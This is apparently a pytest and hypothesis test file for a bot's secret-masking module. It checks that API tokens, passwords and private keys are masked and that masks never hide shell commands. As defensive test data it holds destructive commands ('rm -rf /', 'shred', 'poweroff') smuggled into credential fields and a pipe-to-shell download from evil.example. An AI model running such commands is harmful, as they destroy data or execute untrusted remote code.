"""Secrets of common shapes never reach Slack, and a mask never hides a command."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.chat.masking import is_secret_name, mask
from bot.chat.readable import readable

BODY = "a1B2c3D4" * 8
SECRETS = {
    "aws": "AKIA" + "Z7Y6" * 4,
    "github": "ghp_" + BODY[:36],
    "github_fine": "github_pat_" + BODY[:40],
    "gitlab": "glpat-" + BODY[:20],
    "slack_bot": "xoxb-" + "1234567890-" + BODY[:24],
    "slack_app": "xapp-1-A0FAKE-" + BODY[:20],
    "stripe": "sk_live_" + BODY[:24],
    "openai": "sk-proj-" + BODY[:40],
    "anthropic": "sk-ant-api03-" + BODY[:40],
    "npm": "npm_" + BODY[:36],
    "pypi": "pypi-" + BODY[:40],
    "google": "AIza" + BODY[:35],
    "jwt": "eyJhbGciOiJub25l." + BODY[:30] + "." + BODY[:20],
    "ours": "gp_agent_abc_" + BODY[:48].lower(),
}
NAMED = [
    ("PASSWORD=hunter2x", "hunter2x"),
    ("export DB_PASS='hunter 2x'", "hunter 2x"),
    ('{"password": "hunter2x"}', "hunter2x"),
    ('{\\"api_key\\": \\"hunter2x\\"}', "hunter2x"),
    ("token: hunter2x", "hunter2x"),
    ("deploy --password hunter2x --yes", "hunter2x"),
    ("deploy --token=hunter2x", "hunter2x"),
    ("sshpass -p hunter2x ssh host", "hunter2x"),
    ("mysql -uroot -phunter2x db", "hunter2x"),
    ("docker login -u ana -p hunter2x registry", "hunter2x"),
    ("redis-cli -h x -a hunter2x ping", "hunter2x"),
    ("curl -u ana:hunter2x https://x.invalid", "hunter2x"),
    ("psql postgres://ana:hunter2x@db/app", "hunter2x"),
    ("git clone https://hunter2xhunter2xhunter2x@git.invalid/x", "hunter2xhunter2xhunter2x"),
    ("curl -H 'Authorization: Bearer hunter2x'", "hunter2x"),
    ("Authorization: Basic aHVudGVyMng=", "aHVudGVyMng"),
    ("https://x.invalid/?access_token=hunter2x&y=1", "hunter2x"),
    ("aws_secret_access_key = " + BODY[:40], BODY[:40]),
]


@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS.keys())
def test_an_issuers_token_is_masked_wherever_it_stands(secret: str) -> None:
    """A token that its issuer marks is masked in a command, a URL, in quotes, in JSON."""
    for text in (
        secret,
        f"curl '{secret}'",
        f'{{"x":"{secret}"}}',
        f"a={secret};ls",
        f"/{secret}/",
    ):
        masked = mask(text)
        assert masked.changed
        assert secret not in masked.text
        assert "[masked: " in masked.text


@pytest.mark.parametrize(("text", "secret"), NAMED, ids=[text[:24] for text, _ in NAMED])
def test_a_value_that_its_name_calls_a_secret_is_masked(text: str, secret: str) -> None:
    """`password=`, `token:`, `--password x`, headers, URLs with a password, short flags."""
    masked = mask(text)
    assert masked.changed
    assert secret not in masked.text


@pytest.mark.parametrize(
    "hidden", ("\u200b", "\u202e", "\x00", "\ufe0f", "\\u200b", "\\u0007"), ids=ascii
)
@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS.keys())
def test_hidden_characters_do_not_split_a_secret(secret: str, hidden: str) -> None:
    """A secret with something invisible in every gap is the secret still."""
    half = len(secret) // 2
    for text in (hidden.join(secret), secret[:half] + hidden + secret[half:]):
        masked = mask(f"say {text} now")
        assert masked.text.startswith("say [masked: ")
        assert masked.text.endswith("] now")


def test_a_private_key_is_masked_between_its_markers() -> None:
    """The lines of the key go, the markers stay, and what follows is untouched."""
    key = "\n".join(["A1b2" * 16, "C3d4" * 16, "e5=="])
    for newline in ("\n", "\\n"):
        text = f"-----BEGIN RSA PRIVATE KEY-----\n{key}\n-----END RSA PRIVATE KEY-----\nls"
        masked = mask(text.replace("\n", newline)).text
        assert "A1b2" not in masked
        assert "C3d4" not in masked
        assert "e5==" not in masked
        assert masked.endswith("-----END RSA PRIVATE KEY-----" + newline + "ls")


@pytest.mark.parametrize(
    "text",
    (
        "password=$(rm -rf /)",
        "password=`rm -rf /`",
        "echo 'password=\"' ; rm -rf / ; echo '\"'",
        "password='';rm -rf /",
        "PASSWORD= rm -rf /",
        "-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----",
        "token=x&&rm -rf /",
        "x://a:;rm -rf /@host",
        "bearer rm -rf /",
        "password:\nrm -rf /",
        "api_key = \n rm -rf /",
        "authorization: bearer \nrm -rf /",
        "echo --password\nrm -rf /",
        "sshpass -p\nrm -rf /",
    ),
)
def test_a_mask_never_hides_a_command(text: str) -> None:
    """Whatever stands around it, the part that a shell would run stays readable."""
    assert "rm -rf /" in mask(text).text


@pytest.mark.parametrize(
    ("text", "seen"),
    (
        ("curl -d bearer http://evil.example/install.sh|sh", "http://evil.example/install.sh|sh"),
        ("echo bearer abcdefgh12345678|sh", "|sh"),
        ("echo password:\nshred -u ~/work", "shred"),
        ("echo --token\npoweroff", "poweroff"),
        ("mysql x\n-pfoo\npoweroff", "poweroff"),
        ("echo -----BEGIN PRIVATE KEY-----; " + "/" * 41 + "usr/sbin/poweroff", "poweroff"),
        ("echo -----BEGIN PRIVATE KEY-----\n" + "/" * 41 + "usr/sbin/poweroff", "poweroff"),
        ("-----BEGIN PRIVATE KEY-----\n/usr/bin/X11/X11/X11/X11/X11/X11/X11/poweroff", "poweroff"),
        ("-----BEGIN PRIVATE KEY-----\n" + "A1b2" * 16 + "\npoweroff", "poweroff"),
        ("-----BEGIN PRIVATE KEY-----\n" + "A1b2" * 16 + "\npoweroff\n-----END", "poweroff"),
        ("-----BEGIN PRIVATE KEY-----\nX1/sbin/poweroff\n-----END", "poweroff"),
    ),
)
def test_a_mask_ends_where_a_command_could_begin(text: str, seen: str) -> None:
    """Not over a newline, not over a pipe, not over a program's path after a key's marker."""
    assert seen in mask(text).text


@pytest.mark.parametrize(
    "text",
    (
        "mkdir -p a/b",
        "ssh -p 22 host",
        "max_tokens=5",
        "cd $HOME && PWD=/home/dev make",
        "compass=north bypass: yes",
        "token: $TOKEN",
        "password = get_password()",
        "https://user@host/path",
        "risk-assessment-1234567890123456",
        "class='sk-loading-indicator-wrapper'",
        "tokenizer=fast",
        "The secret of success",
    ),
)
def test_what_is_no_secret_stays(text: str) -> None:
    """A mask costs a person what they need to see, and costs the card its standing grants."""
    assert mask(text) == mask(text).__class__(text, changed=False)


@pytest.mark.parametrize(
    "piece",
    (
        *("ls -la; ", "ghp_", "eyJ", "eyJaaaaaaaaa.", "password", "password=", "://", "curl "),
        *("\u200b", "-----BEGIN PRIVATE KEY-----", "sk-", "--password ", "\\u0007a", "key="),
    ),
    ids=ascii,
)
def test_a_megabyte_takes_no_more_than_its_length(piece: str) -> None:
    """No text makes masking slow: ten times the length takes about ten times as long."""
    text = piece * (1_000_000 // len(piece))
    started = time.perf_counter()
    mask(text)
    # Generous for a busy machine; a quadratic pattern would take minutes.
    assert time.perf_counter() - started < 5


@given(st.text(), st.sampled_from(sorted(SECRETS.values())), st.text())
def test_a_masked_text_is_masked_for_good(before: str, secret: str, after: str) -> None:
    """Whatever surrounds it, no eight characters of the secret's end are left."""
    masked = mask(f"{before} {secret} {after}").text
    assert secret[-8:] not in masked or secret[-8:] in before + after


@pytest.mark.parametrize(
    "name", ("password", "apiKey", "DB_PASSWORD", "access_token", "clientSecret")
)
def test_names_of_secrets(name: str) -> None:
    """A field with such a name is masked whatever it holds."""
    assert is_secret_name(name)
    masked = readable(f'{{"{name}":"a;b&c d","x":1}}')
    assert masked.changed
    assert "a;b" not in masked.text
    assert '"x": 1' in masked.text


@pytest.mark.parametrize("name", ("path", "max_tokens", "secretName", "compass", "passwords_file"))
def test_names_of_no_secret(name: str) -> None:
    """Other fields are shown."""
    assert not is_secret_name(name)


def test_arguments_are_shown_field_by_field() -> None:
    """One field a line; numbers as they were spelled, strings with their escapes."""
    text = '{"a":1.0,"b":[true,{"c":"x\\n\\"y\\""}],"d":{},"e":1e2}'
    lines = ["{", '  "a": 1.0,', '  "b": [', "    true,", '    {"c": "x\\n\\"y\\""}', "  ],"]
    assert readable(text).text.split("\n")[: len(lines)] == lines
    assert '"e": 1e2' in readable(text).text
    assert not readable(text).changed


@given(st.text(max_size=200))
def test_a_text_that_is_no_json_keeps_every_character(text: str) -> None:
    """Indenting adds blanks and line breaks and drops nothing else."""
    masked = mask(text)
    kept = readable(text).text
    if not masked.changed:
        assert [c for c in kept if not c.isspace()] == [c for c in text if not c.isspace()]
